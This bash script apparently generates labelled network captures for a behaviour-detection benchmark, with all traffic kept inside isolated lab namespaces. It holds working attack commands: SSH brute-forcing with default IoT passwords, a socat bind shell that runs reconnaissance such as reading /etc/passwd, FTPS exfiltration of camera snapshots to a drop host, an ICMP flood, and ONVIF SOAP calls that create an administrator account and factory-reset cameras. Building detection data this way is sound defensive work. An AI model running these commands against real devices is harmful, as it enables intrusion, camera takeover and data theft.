#!/usr/bin/env bash
# An ELEVENTH fresh attack set ("f11-*"): techniques none of the earlier sets used, made with real tools between
# network namespaces (one small bounded Python program, fresh11/wsd.py, for the ONVIF cameras' WS-Discovery, which no
# Debian package answers).
#   f11-ssh-brute-in       password guessing AGAINST the device: an internet host runs hydra on the device's own sshd
#                          (6 users x 12 passwords, 4 tasks); every guess refused
#   f11-knock-bind-shell   a port-knocked backdoor: an internet host knocks three closed ports of the device (knock,
#                          from knockd), then connects to the shell the device opened after the knock and types
#   f11-dns-axfr-lan       DNS zone-transfer attempts (dig AXFR over tcp/53) against every LAN host for 8 zone names
#   f11-ike-scan-wan       IPsec VPN reconnaissance: ike-scan's IKEv1 main-mode proposals to 254 internet addresses
#                          on udp/500
#   f11-icmp-flood         an ICMP echo flood: 4,000 echo requests of 1,200 bytes, 200 a second, to one internet host
#   f11-ftps-exfil         exfiltration over FTP with explicit TLS (lftp, ftp:ssl-force; vsftpd with AUTH TLS) to an
#                          internet drop: camera snapshots and a configuration archive
#   f11-onvif-wsd-lan      camera takeover on the LAN: a WS-Discovery probe (239.255.255.250:3702) for ONVIF cameras,
#                          then ONVIF SOAP on their port 80 (device information, users, stream URI, CreateUsers)
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f11-*, veths f11p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.97.x); every other 10.128/9 address is on no host. Each id's servers are started before its capture and
# stopped after. Every tool runs under `timeout`, every loop is bounded; namespaces are removed on exit.
#
# Tools (Debian): openssh-server hydra knockd (knock) socat dnsmasq bind9-dnsutils (dig) ike-scan iputils-ping lftp
#   vsftpd curl tcpdump wireshark-common bc openssl
# Helpers: fresh11/wsd.py; ../victim-httpd.py.
#
# Usage: bash bench/behavior/fresh11/gen-fresh11.sh [--out DIR (default /work/behavior-bench-fresh11)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh11
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f11 GEN=gen-fresh11
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
sleep 1

# ---------- "internet" hosts ----------
# .97.5 the SSH guesser, .97.6 the knocking operator, .97.8 the flood's target (answers echo), .97.9 the FTPS drop;
# the IKE scan's 254 targets are on no host.
internet_hosts 10.128.97.5 10.128.97.6 10.128.97.8 10.128.97.9
lab_tls_cert "drop.example"
export NET VIC_IP ATT_IP W PY HERE LAB

mkdir -p "$W/loot"
for i in 1 2 3 4; do head -c $((180000 + i * 7000)) /dev/urandom > "$W/loot/snap-000$i.jpg"; done
head -c 400000 /dev/urandom > "$W/loot/config.tar"

# ---------- 1. SSH password guessing against the device's own sshd, from an internet host (hydra) ----------
if want f11-ssh-brute-in; then
  mkdir -p /run/sshd
  [ -f "$W/ssh_host_ed25519" ] || ssh-keygen -q -t ed25519 -N '' -f "$W/ssh_host_ed25519"
  cat > "$W/sshd_config.att" <<EOF
ListenAddress $ATT_IP:22
HostKey $W/ssh_host_ed25519
PermitRootLogin yes
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
MaxStartups 30:30:60
MaxAuthTries 6
PidFile $W/sshd.att.pid
EOF
  srv att 110 /usr/sbin/sshd -D -e -f "$W/sshd_config.att"
  SSHD_PID=$BG
  sleep 1
  printf '%s\n' root admin ubnt pi user support > "$W/ssh-users"
  printf '%s\n' admin 123456 password root 12345 1234 ubnt raspberry default vizxv xc3511 888888 > "$W/ssh-pass"
  cat > "$W/sshbrute.sh" <<'EOS'
# the guesser, from the internet (the victim's namespace, source 10.128.97.5)
ip netns exec "$LAB-vic" timeout 85 hydra -L "$W/ssh-users" -P "$W/ssh-pass" -t 4 -w 10 -I 10.66.0.10 ssh \
  >"$W/sshbrute.hydra" 2>&1 || true
EOS
  ns vic ip route replace 10.66.0.10/32 dev eth0 src 10.128.97.5
  CAP_VIC_IP=10.128.97.5 cap f11-ssh-brute-in credential hydra-ssh-inbound attacker public false 95 bash "$W/sshbrute.sh"
  ns vic ip route del 10.66.0.10/32 dev eth0 src 10.128.97.5 || true
  stopbg "$SSHD_PID"
fi

# ---------- 2. a port-knocked bind shell: three knocks from the internet, then the operator connects ----------
if want f11-knock-bind-shell; then
  cat > "$W/knock.sh" <<'EOS'
# the device: its shell listener opens only after the knocks (as knockd would open a firewall hole)
( sleep 9; timeout 70 socat TCP-LISTEN:46123,bind=10.66.0.10,reuseaddr EXEC:'/bin/sh -i',stderr ) &
L=$!
# the operator, from the internet (source 10.128.97.6): knock, wait, knock again (the first sequence is a retry), connect
sleep 3
ip netns exec "$LAB-vic" timeout 10 knock -d 400 10.66.0.10 7351 2919 60111 || true
sleep 2
ip netns exec "$LAB-vic" timeout 10 knock -d 400 10.66.0.10 7351 2919 60111 || true
sleep 5
( sleep 2; for c in "id" "uname -a" "cat /proc/cpuinfo | head -4" "ip -4 addr" "cat /etc/passwd" "ls -la /mnt" \
    "ps" "netstat -an | head -20" "exit"; do echo "$c"; sleep $((3 + RANDOM % 5)); done ) |
  ip netns exec "$LAB-vic" timeout 60 socat -T 30 - TCP:10.66.0.10:46123 >/dev/null 2>&1 || true
wait $L 2>/dev/null || true
EOS
  ns vic ip route replace 10.66.0.10/32 dev eth0 src 10.128.97.6
  CAP_VIC_IP=10.128.97.6 cap f11-knock-bind-shell c2 knock+socat-bind-shell attacker public false 95 bash "$W/knock.sh"
  ns vic ip route del 10.66.0.10/32 dev eth0 src 10.128.97.6 || true
fi

# ---------- 3. DNS zone-transfer attempts (dig AXFR) against every LAN host ----------
if want f11-dns-axfr-lan; then
  A=()
  # two LAN resolvers (dnsmasq answers tcp/53 and refuses AXFR); the other hosts reset
  for h in vic d31; do
    ip=$([ $h = vic ] && echo "$VIC_IP" || echo "$NET.31")
    srv "$h" 100 dnsmasq -k --no-resolv --no-hosts --bind-interfaces --listen-address="$ip" --port=53 \
      --local=/lan/ --pid-file="$W/dnsmasq-axfr-$h.pid" --user=root
    A+=("$BG")
  done
  sleep 1
  cat > "$W/axfr.sh" <<'EOS'
for h in 10.66.0.1 10.66.0.20 10.66.0.31 10.66.0.32 10.66.0.33 10.66.0.34 10.66.0.254; do
  for z in lan local home home.arpa corp.example camera.lan 0.66.10.in-addr.arpa example.com; do
    timeout 6 dig +tcp +time=2 +tries=1 @"$h" "$z" AXFR >/dev/null 2>&1 || true
    sleep 0.$((2 + RANDOM % 6))
  done
done
EOS
  cap f11-dns-axfr-lan scan dig-axfr-lan attacker lan false 80 bash "$W/axfr.sh"
  for p in "${A[@]}"; do stopbg "$p"; done
fi

# ---------- 4. IPsec VPN reconnaissance: ike-scan of 254 internet addresses on udp/500 ----------
if want f11-ike-scan-wan; then
  $PY - "$W/ike-targets" <<'PYEOF'
import random, sys
rnd = random.Random(1111)
addrs = set()
while len(addrs) < 254:
    addrs.add(f"10.{rnd.randint(128, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}")
open(sys.argv[1], "w").write("\n".join(sorted(addrs)) + "\n")
PYEOF
  CAP_WAN=$WAN CAP_VIC_IP=10.128.97.66 cap f11-ike-scan-wan scan ike-scan-ikev1-main-mode attacker wan false 60 \
    ike-scan --retry=2 --interval=60 --timeout=500 -f "$W/ike-targets"
fi

# ---------- 5. an ICMP echo flood (ping) to one internet host ----------
if want f11-icmp-flood; then
  CAP_VIC_IP=10.128.97.8 cap f11-icmp-flood dos ping-icmp-echo-flood attacker public false 40 \
    ping -q -n -i 0.005 -s 1200 -c 4000 10.128.97.8
fi

# ---------- 6. exfiltration over FTP with explicit TLS (lftp ftp:ssl-force) to an internet drop ----------
if want f11-ftps-exfil; then
  anon_ftp_drop 10.128.97.9 "$W/vsftpd-tls.conf" <<EOF
ssl_enable=YES
allow_anon_ssl=YES
force_anon_logins_ssl=YES
force_anon_data_ssl=YES
require_ssl_reuse=NO
ssl_ciphers=HIGH
rsa_cert_file=$W/tls.crt
rsa_private_key_file=$W/tls.key
EOF
  srv vic 100 /usr/sbin/vsftpd "$W/vsftpd-tls.conf"
  FTP_PID=$BG
  sleep 1
  CAP_VIC_IP=10.128.97.9 cap f11-ftps-exfil exfil lftp-ftps-explicit-tls attacker public false 70 \
    lftp -e "set ftp:ssl-force true; set ftp:ssl-protect-data true; set ssl:verify-certificate no; \
set ftp:passive-mode on; set net:timeout 5; set net:max-retries 1; cd incoming; \
put $W/loot/snap-0001.jpg -o ipc9e21-0001.jpg; put $W/loot/snap-0002.jpg -o ipc9e21-0002.jpg; \
put $W/loot/snap-0003.jpg -o ipc9e21-0003.jpg; put $W/loot/snap-0004.jpg -o ipc9e21-0004.jpg; \
put $W/loot/config.tar -o ipc9e21.tar; ls; bye" -u anonymous,x@example.net 10.128.97.9
  stopbg "$FTP_PID"
  ls -la "$W/ftp/incoming" >&2 || true
fi

# ---------- 7. ONVIF camera takeover on the LAN: WS-Discovery probe, then ONVIF SOAP on the cameras' port 80 ----------
if want f11-onvif-wsd-lan; then
  O=()
  for h in vic d33; do
    ip=$([ $h = vic ] && echo "$VIC_IP" || echo "$NET.33")
    ns "$h" ip route replace 224.0.0.0/4 dev eth0
    srv "$h" 90 $PY "$HERE/wsd.py" respond "$ip" "http://$ip/onvif/device_service" 85; O+=("$BG")
    srv "$h" 90 $PY "$HERE/../victim-httpd.py" "$ip" 80; O+=("$BG")
  done
  ns att ip route replace 224.0.0.0/4 dev eth0
  sleep 1
  cat > "$W/onvif.sh" <<'EOS'
$PY "$HERE/wsd.py" probe 10.66.0.10 "$W/onvif-xaddrs" 6
S='<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:tds="http://www.onvif.org/ver10/device/wsdl" xmlns:trt="http://www.onvif.org/ver10/media/wsdl" xmlns:tt="http://www.onvif.org/ver10/schema"><s:Body>'
E='</s:Body></s:Envelope>'
while read -r x; do
  for b in '<tds:GetSystemDateAndTime/>' '<tds:GetDeviceInformation/>' '<tds:GetCapabilities><tds:Category>All</tds:Category></tds:GetCapabilities>' \
      '<tds:GetUsers/>' '<tds:GetNetworkInterfaces/>' '<trt:GetProfiles/>' \
      '<trt:GetStreamUri><trt:StreamSetup><tt:Stream>RTP-Unicast</tt:Stream><tt:Transport><tt:Protocol>RTSP</tt:Protocol></tt:Transport></trt:StreamSetup><trt:ProfileToken>Profile_1</trt:ProfileToken></trt:GetStreamUri>' \
      '<tds:CreateUsers><tds:User><tt:Username>sysadm</tt:Username><tt:Password>Zx9!pQ2w</tt:Password><tt:UserLevel>Administrator</tt:UserLevel></tds:User></tds:CreateUsers>' \
      '<tds:SetSystemFactoryDefault><tds:FactoryDefault>Soft</tds:FactoryDefault></tds:SetSystemFactoryDefault>'; do
    timeout 6 curl -s -o /dev/null -A 'gSOAP/2.8' -H 'Content-Type: application/soap+xml; charset=utf-8' \
      --data "$S$b$E" "$x" || true
    sleep 1
  done
done < "$W/onvif-xaddrs"
EOS
  cap f11-onvif-wsd-lan lateral wsd-probe+curl-onvif-soap attacker lan false 80 bash "$W/onvif.sh"
  for p in "${O[@]}"; do stopbg "$p"; done
  cat "$W/onvif-xaddrs" >&2 || true
fi

lab_index
